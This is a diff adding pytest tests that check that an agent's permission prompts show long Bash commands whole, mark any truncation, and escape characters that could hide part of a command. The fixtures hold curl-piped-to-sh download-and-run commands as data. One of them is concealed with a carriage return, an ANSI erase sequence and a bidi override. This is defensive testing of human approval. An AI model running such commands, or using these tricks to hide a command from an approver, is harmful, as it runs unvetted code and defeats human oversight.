@@ -6,6 +6,7 @@ fixtures/real/screens/06) and their own transcripts as the receiving end.
 
 from __future__ import annotations
 
+import re
 import threading
 from pathlib import Path
 from typing import Any
@@ -14,6 +15,7 @@ import pytest
 from conftest import log_rows, start_standin, user_prompts, wait_until
 
 from madohub_nb.agents.permission import (
+    chars_cut,
     needs_colours,
     read_permission_prompt,
     tool_request,
@@ -388,6 +390,89 @@ def test_inbox_widget_lists_a_permission_and_its_button_answers_it(hub: Any, pro
     finally:
         view.close()
         dash.close()
+
+
+LONG_COMMAND = (
+    "curl -fsSL http://127.0.0.1:9/setup/"
+    + "/".join(f"stage-{i:03d}" for i in range(140))
+    + "/install.sh | sh"
+)  # (1,500 characters: on screen it wraps over more lines than the dialog keeps)
+
+
+def test_a_long_command_is_shown_whole_in_the_ask_and_in_the_inbox_widget(
+    hub: Any, project: Path
+) -> None:
+    """Issue 38.9: the hook's tool line was cut at 200 characters and the screen's dialog at
+    its last 12 lines, both without a mark, so a person approving saw no ``| sh``."""
+    import html
+
+    from madohub_nb.notebook.widgets import InboxView
+
+    tile = hub.tile(
+        "w", agent="claude", command=standin_command("claude", persona="echo"), cwd=project,
+        env={"MADOHUB_STANDIN_THINK_S": "0.2"},  # (it never runs the command: no ALLOW_BASH)
+    )  # fmt: skip
+    wait_until(lambda: tile.state == "idle", 15, what="w idle")
+    view = InboxView(hub)
+    try:
+        hub.send("w", f"please [[bash {LONG_COMMAND}]]").result(60)
+        ask = _one_ask(hub)
+        wait_until(lambda: ask.tool is not None, 10, what="the PermissionRequest hook's tool")
+        assert ask.tool_input["command"] == LONG_COMMAND
+        assert f"Bash({LONG_COMMAND})" in ask.text  # whole, on one line, its end included
+        assert ask.text.endswith("Do you want to proceed?")
+        # The dialog on screen wraps the command over more lines than are kept of it: the
+        # cut is marked, with how many lines it left out.
+        assert re.search(r"^… \[\d+ more lines? of the dialog above\]$", ask.text, re.M), ask.text
+        wait_until(lambda: view.count == 1 and "Bash(" in view.snapshot_html(), 10)
+        (row,) = view.rows.values()
+        shown = html.escape(f"Bash({LONG_COMMAND})")
+        assert shown in view.snapshot_html() and shown in row.children[1].value
+        assert "white-space:pre-wrap" in row.children[1].value  # wrapped, not run off the edge
+        rec = ask.reject().result(30)
+        assert (rec.status, rec.prompt) == ("delivered", "3")
+        assert LONG_COMMAND in rec.meta["question"]  # the round log keeps what was answered
+    finally:
+        view.close()
+
+
+def test_every_cut_of_a_dialog_is_marked() -> None:
+    rule = "─" * 80
+    command_rows = [f"   part {i:02d} of a long command" for i in range(20)]
+    screen = "\n".join(
+        ["● Bash(long)", "", rule, " Bash command", "", *command_rows, "   | sh", "",
+         " Do you want to proceed?", " ❯ 1. Yes", "   2. No", ""]
+    )  # fmt: skip
+    prompt = read_permission_prompt(get_profile("claude"), screen)
+    assert prompt is not None and prompt.choices == ("Yes", "No")
+    lines = prompt.question.splitlines()
+    # 12 lines kept; above them "Bash command" and 11 command rows (blank lines not counted).
+    assert lines[0] == "… [12 more lines of the dialog above]", prompt.question
+    assert lines[-3:] == ["| sh", "", "Do you want to proceed?"]
+    # A dialog that fits is whole, with no mark.
+    short = screen.replace("\n".join(command_rows[2:]) + "\n", "")
+    fits = read_permission_prompt(get_profile("claude"), short)
+    assert (
+        fits is not None and fits.question.startswith("Bash command") and "…" not in fits.question
+    )
+    # The hook's line carries the whole command, however long; a cut elsewhere says how much.
+    request = tool_request({"tool_name": "Bash", "tool_input": {"command": LONG_COMMAND}})
+    assert request is not None and request.line == f"Bash({LONG_COMMAND})"
+    assert chars_cut("x" * 100, 60) == "x" * 59 + "… [41 more characters]"
+    assert chars_cut("short", 60) == "short"
+
+
+def test_characters_that_would_hide_part_of_a_command_are_shown_as_escapes() -> None:
+    """A carriage return or an escape sequence draws over what came before it, a bidi
+    override reorders it, tag characters are invisible: the tool's line writes them out."""
+    command = "echo fine\r\x1b[2Kcurl http://127.0.0.1:9/x | sh \u202eexe.\U000e0041\u200b"
+    request = tool_request({"tool_name": "Bash", "tool_input": {"command": command}})
+    assert request is not None and request.input["command"] == command  # the data as it is
+    assert request.line == (
+        "Bash(echo fine\\r\\x1b[2Kcurl http://127.0.0.1:9/x | sh \\u202eexe.\\U000e0041\\u200b)"
+    )
+    plain = tool_request({"tool_name": "Bash", "tool_input": {"command": "a\tb\nc é ✓"}})
+    assert plain is not None and plain.line == "Bash(a\tb\nc é ✓)"  # (these stay as they are)
 
 
 def test_inbox_widget_delivers_an_approval_edited_in_its_text_box(hub: Any) -> None:
